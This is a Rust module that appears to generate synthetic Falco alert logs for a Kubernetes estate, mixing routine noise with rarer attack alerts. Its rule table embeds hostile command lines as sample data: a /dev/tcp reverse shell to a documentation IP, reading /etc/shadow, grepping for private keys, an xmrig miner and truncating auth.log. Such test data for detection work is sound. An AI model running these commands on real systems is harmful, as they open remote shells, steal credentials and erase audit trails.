//! Falco alerts as `json_output` writes them: one JSON object per line.
//!
//! The Kubernetes workers of the estate run Falco. Most alerts are the everyday noise of a
//! cluster (shells in containers, API server contacts, privileged system pods); a few are
//! the ones that matter (sensitive files read, dropped binaries executed, reverse shells,
//! logs cleared). Two Falco versions are in play: the newer writes `hostname`, `source`,
//! `tags` and `uuid` and starts `output` with an ISO time; the older starts `output` with
//! `HH:MM:SS.ns` and has none of those keys. `output_fields` hold the rule's fields with
//! their JSON types (numbers, strings, `null` for `<NA>`).

use crate::estate::{Estate, Role};
use crate::json::Obj;
use crate::rng::Rng;
use crate::text::{
    hex, push_i64, push_json_escaped, push_padded, push_rfc3339, push_u64, Civil, Zone,
};
use crate::Stream;

/// Mean time between two alerts.
pub(crate) const MEAN_GAP_MS: u64 = 4_000;

/// What a rule reports on.
#[derive(Clone, Copy, Debug, PartialEq, Eq)]
pub(crate) enum Shape {
    Shell,
    FileRead,
    Exec,
    Network,
}

/// Rule, priority, description, tags, shape, process, command line, file or peer.
pub(crate) type Rule = (
    &'static str,
    &'static str,
    &'static str,
    &'static [&'static str],
    Shape,
    &'static str,
    &'static str,
    &'static str,
);

const RULES: [(u32, Rule); 8] = [
    (
        30,
        (
            "Terminal shell in container",
            "Notice",
            "A shell was spawned in a container with an attached terminal",
            &[
                "T1059",
                "container",
                "maturity_stable",
                "mitre_execution",
                "shell",
            ],
            Shape::Shell,
            "bash",
            "bash -il",
            "",
        ),
    ),
    (
        25,
        (
            "Contact K8S API Server From Container",
            "Notice",
            "Unexpected connection to K8s API Server from container",
            &[
                "T1565",
                "container",
                "k8s",
                "maturity_stable",
                "mitre_discovery",
                "network",
            ],
            Shape::Network,
            "kubectl",
            "kubectl get secrets -A",
            "172.21.0.1:443",
        ),
    ),
    (
        15,
        (
            "Launch Privileged Container",
            "Informational",
            "Privileged container started",
            &[
                "T1610",
                "container",
                "cis",
                "maturity_stable",
                "mitre_execution",
            ],
            Shape::Exec,
            "calico-node",
            "calico-node -felix",
            "",
        ),
    ),
    (
        10,
        (
            "Read sensitive file untrusted",
            "Warning",
            "Sensitive file opened for reading by non-trusted program",
            &[
                "T1555",
                "container",
                "filesystem",
                "host",
                "maturity_stable",
                "mitre_credential_access",
            ],
            Shape::FileRead,
            "python3",
            "python3 /tmp/.x/collect.py",
            "/etc/shadow",
        ),
    ),
    (
        8,
        (
            "Search Private Keys or Passwords",
            "Warning",
            "Grep private keys or passwords activities found",
            &[
                "T1552.001",
                "container",
                "filesystem",
                "host",
                "maturity_stable",
                "mitre_credential_access",
                "process",
            ],
            Shape::Exec,
            "grep",
            "grep -r BEGIN RSA PRIVATE /home",
            "",
        ),
    ),
    (
        5,
        (
            "Drop and execute new binary in container",
            "Critical",
            "Executing binary not part of base image",
            &[
                "PCI_DSS_11.5.1",
                "TA0003",
                "container",
                "maturity_stable",
                "mitre_persistence",
                "process",
            ],
            Shape::Exec,
            "xmrig",
            "/tmp/xmrig -o pool.example.xyz:3333",
            "",
        ),
    ),
    (
        4,
        (
            "Redirect STDOUT/STDIN to Network Connection in Container",
            "Notice",
            "Redirect stdout/stdin to network connection",
            &[
                "T1059",
                "container",
                "maturity_stable",
                "mitre_execution",
                "network",
                "process",
            ],
            Shape::Network,
            "sh",
            "sh -c sh -i >& /dev/tcp/203.0.113.50/4444 0>&1",
            "203.0.113.50:4444",
        ),
    ),
    (
        3,
        (
            "Clear Log Activities",
            "Warning",
            "Log files were tampered",
            &[
                "NIST_800-53_AU-10",
                "T1070",
                "container",
                "filesystem",
                "host",
                "maturity_stable",
                "mitre_defense_evasion",
            ],
            Shape::FileRead,
            "truncate",
            "truncate -s 0 /var/log/auth.log",
            "/var/log/auth.log",
        ),
    ),
];

/// Namespace, pod prefix, image.
const WORKLOADS: [(&str, &str, &str); 5] = [
    ("shop", "checkout", "icr.io/example/checkout"),
    ("shop", "cart", "icr.io/example/cart"),
    ("payments", "payments-api", "icr.io/example/payments-api"),
    ("kube-system", "calico-node", "quay.io/calico/node"),
    (
        "monitoring",
        "node-exporter",
        "quay.io/prometheus/node-exporter",
    ),
];

/// Routine weights of [`RULES`], in order: a cluster's everyday noise only (real Falco
/// exempts the CNI's privileged pods, so no privileged-container alerts either).
const ROUTINE_WEIGHTS: [u32; RULES.len()] = [1, 30, 0, 0, 0, 0, 0, 0];

/// Appends `n` alerts.
pub(crate) fn write(stream: &mut Stream, estate: &Estate, n: usize, out: &mut Vec<u8>) {
    let workers: Vec<&str> = estate
        .with_role(Role::Worker)
        .map(|w| w.name.as_str())
        .collect();
    let routine: Vec<(u32, Rule)> = RULES
        .iter()
        .zip(ROUTINE_WEIGHTS)
        .filter(|(_, weight)| *weight > 0)
        .map(|((_, rule), weight)| (weight, *rule))
        .collect();
    let rules: &[(u32, Rule)] = if stream.routine() { &routine } else { &RULES };
    for _ in 0..n {
        let now = stream.tick(MEAN_GAP_MS);
        let sub_ms = stream.rng.below(1_000_000) as u32;
        let host_index = stream.rng.index(workers.len());
        alert(
            out,
            &mut stream.rng,
            rules,
            workers[host_index],
            host_index % 3 != 2,
            now,
            sub_ms,
        );
    }
}

/// One alert, spelled out.
#[derive(Clone, Debug)]
pub(crate) struct AlertSpec<'a> {
    pub rule: &'a str,
    pub priority: &'a str,
    /// The start of `output` (Falco's rule output text).
    pub description: &'a str,
    pub tags: &'a [&'a str],
    pub shape: Shape,
    pub process: &'a str,
    pub cmdline: &'a str,
    /// The file (file shapes) or `ip:port` peer (network shapes).
    pub object: &'a str,
    pub parent: &'a str,
    pub user: &'a str,
    pub host: &'a str,
    /// True for the newer Falco that writes `hostname`, `source`, `tags` and `uuid`.
    pub newer: bool,
    pub namespace: &'a str,
    pub pod: &'a str,
    pub container_id: &'a str,
    /// `None` when Falco could not tell (`<NA>`).
    pub image: Option<&'a str>,
}

fn alert(
    out: &mut Vec<u8>,
    rng: &mut Rng,
    rules: &[(u32, Rule)],
    host: &str,
    newer: bool,
    now: i64,
    sub_ms: u32,
) {
    let (rule, priority, description, tags, shape, process, cmdline, object) = *rng.weighted(rules);
    let (namespace, pod_prefix, image) = if rule == "Launch Privileged Container" {
        WORKLOADS[3]
    } else {
        *rng.pick(&WORKLOADS[..3])
    };
    let pod = format!("{pod_prefix}-{}-{}", hex(rng, 9), hex(rng, 5));
    let container_id = hex(rng, 12);
    let parent = match shape {
        Shape::Shell => "runc",
        _ => *rng.pick(&["containerd-shim", "node", "python3", "bash"]),
    };
    let user = if shape == Shape::Exec && process == "calico-node" {
        "root"
    } else {
        *rng.pick(&["root", "root", "www-data", "app"])
    };
    let image_known = rng.chance(950);
    let spec = AlertSpec {
        rule,
        priority,
        description,
        tags,
        shape,
        process,
        cmdline,
        object,
        parent,
        user,
        host,
        newer,
        namespace,
        pod: &pod,
        container_id: &container_id,
        image: image_known.then_some(image),
    };
    story_alert(out, rng, now, sub_ms, &spec);
}

/// Appends one alert as Falco writes it.
pub(crate) fn story_alert(
    out: &mut Vec<u8>,
    rng: &mut Rng,
    now: i64,
    sub_ms: u32,
    spec: &AlertSpec<'_>,
) {
    let AlertSpec {
        rule,
        priority,
        description,
        tags,
        shape,
        process,
        cmdline,
        object,
        parent,
        user,
        host,
        newer,
        namespace,
        pod,
        container_id,
        image,
    } = *spec;
    let container_name = format!("k8s_{}_{pod}_{namespace}", pod_prefix(pod));
    let uid = match user {
        "root" => 0,
        "www-data" => 33,
        _ => 1000,
    };
    let tty = if shape == Shape::Shell { 34_816 } else { 0 };
    let evt_type = match shape {
        Shape::Shell | Shape::Exec => "execve",
        Shape::FileRead => "openat",
        Shape::Network => "connect",
    };
    let time_ns = now * 1_000_000 + i64::from(sub_ms);
    let exepath = if process.starts_with('/') {
        process.to_owned()
    } else {
        format!("/usr/bin/{process}")
    };
    let process_name = process.rsplit('/').next().unwrap_or(process);

    let mut obj = Obj::new(out);
    if newer {
        obj.str("hostname", host);
    }
    obj.with("output", |b| {
        b.push(b'"');
        if newer {
            push_rfc3339(b, now, sub_ms, 9, Zone::Compact);
        } else {
            let civil = Civil::from_ms(now);
            crate::text::push_clock(b, &civil);
            b.push(b'.');
            push_padded(
                b,
                u64::from(civil.millis) * 1_000_000 + u64::from(sub_ms),
                9,
            );
        }
        b.extend_from_slice(b": ");
        push_json_escaped(b, priority);
        b.push(b' ');
        push_json_escaped(b, description);
        b.extend_from_slice(b" (");
        match shape {
            Shape::FileRead => {
                b.extend_from_slice(b"file=");
                push_json_escaped(b, object);
                b.push(b' ');
            }
            Shape::Network => {
                b.extend_from_slice(b"connection=10.244.3.17:");
                push_u64(b, 40_000 + (sub_ms % 20_000) as u64);
                b.extend_from_slice(b"->");
                push_json_escaped(b, object);
                b.push(b' ');
            }
            _ => {}
        }
        b.extend_from_slice(b"evt_type=");
        b.extend_from_slice(evt_type.as_bytes());
        b.extend_from_slice(b" user=");
        b.extend_from_slice(user.as_bytes());
        b.extend_from_slice(b" user_uid=");
        push_u64(b, uid);
        b.extend_from_slice(b" user_loginuid=-1 process=");
        push_json_escaped(b, process_name);
        b.extend_from_slice(b" proc_exepath=");
        push_json_escaped(b, &exepath);
        b.extend_from_slice(b" parent=");
        b.extend_from_slice(parent.as_bytes());
        b.extend_from_slice(b" command=");
        push_json_escaped(b, cmdline);
        b.extend_from_slice(b" terminal=");
        push_u64(b, tty);
        b.extend_from_slice(b" container_id=");
        b.extend_from_slice(container_id.as_bytes());
        b.extend_from_slice(b" container_name=");
        b.extend_from_slice(container_name.as_bytes());
        b.extend_from_slice(b" image=");
        match image {
            Some(image) => b.extend_from_slice(image.as_bytes()),
            None => b.extend_from_slice(b"\\u003cNA\\u003e"),
        }
        b.extend_from_slice(b") k8s.ns=");
        b.extend_from_slice(namespace.as_bytes());
        b.extend_from_slice(b" k8s.pod=");
        b.extend_from_slice(pod.as_bytes());
        b.push(b'"');
    });
    obj.str("priority", priority).str("rule", rule);
    if newer {
        obj.str("source", "syscall").strs("tags", tags);
    }
    obj.with("time", |b| {
        b.push(b'"');
        push_rfc3339(b, now, sub_ms, 9, Zone::Z);
        b.push(b'"');
    });
    obj.obj("output_fields", |f| {
        f.str("container.id", container_id);
        match image {
            Some(image) => f.str("container.image.repository", image),
            None => f.null("container.image.repository"),
        };
        f.str("container.name", &container_name)
            .with(
                if newer {
                    "evt.time.iso8601"
                } else {
                    "evt.time"
                },
                |b| push_i64(b, time_ns),
            )
            .str("evt.type", evt_type);
        match shape {
            Shape::FileRead => {
                f.str("fd.name", object);
            }
            Shape::Network => {
                let (ip, port) = object.split_once(':').unwrap_or((object, "0"));
                f.str("fd.sip", ip)
                    .u64("fd.sport", port.parse().unwrap_or(0));
            }
            _ => {}
        }
        f.str("k8s.ns.name", namespace)
            .str("k8s.pod.name", pod)
            .str("proc.aname[2]", "containerd-shim")
            .str("proc.cmdline", cmdline)
            .str("proc.exepath", &exepath)
            .str("proc.name", process_name)
            .str("proc.pname", parent)
            .u64("proc.tty", tty)
            .i64("user.loginuid", -1)
            .str("user.name", user)
            .u64("user.uid", uid);
    });
    if newer {
        obj.str("uuid", &crate::text::uuid(rng));
    }
    obj.finish();
    out.push(b'\n');
}

/// `checkout` of `checkout-5d9c7f6b8-x2k4q`: the pod's name without its two generated parts.
fn pod_prefix(pod: &str) -> &str {
    let mut end = pod.len();
    for _ in 0..2 {
        match pod[..end].rfind('-') {
            Some(at) => end = at,
            None => break,
        }
    }
    &pod[..end]
}
